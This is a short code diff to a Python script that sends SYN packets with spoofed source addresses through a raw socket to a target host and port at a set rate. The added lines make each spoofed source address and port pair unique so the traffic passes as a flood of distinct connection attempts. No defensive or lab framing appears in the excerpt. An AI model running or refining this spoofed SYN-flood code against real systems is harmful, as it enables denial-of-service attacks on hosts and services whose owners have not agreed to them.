@@ -37,9 +37,17 @@ def main() -> None:
     sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
     start = time.monotonic()
+    # every SYN from its own source address and port: two on one 4-tuple with different sequence numbers are a port
+    # reused by a new connection (RFC 9293 §3.4), which ends the first one early — not what a flood of distinct
+    # attempts is (20,000 random pairs collide in about one run in twenty)
+    used = set()
     for i in range(count):
-        src = f"{net}.{random.randint(0, 255)}.{random.randint(1, 254)}"
-        sock.sendto(syn(src, dst, random.randint(1024, 65535), port, random.getrandbits(32)), (dst, 0))
+        while True:
+            src, sport = f"{net}.{random.randint(0, 255)}.{random.randint(1, 254)}", random.randint(1024, 65535)
+            if (src, sport) not in used:
+                used.add((src, sport))
+                break
+        sock.sendto(syn(src, dst, sport, port, random.getrandbits(32)), (dst, 0))
         ahead = (i + 1) / rate - (time.monotonic() - start)
         if ahead > 0.001:
             time.sleep(ahead)
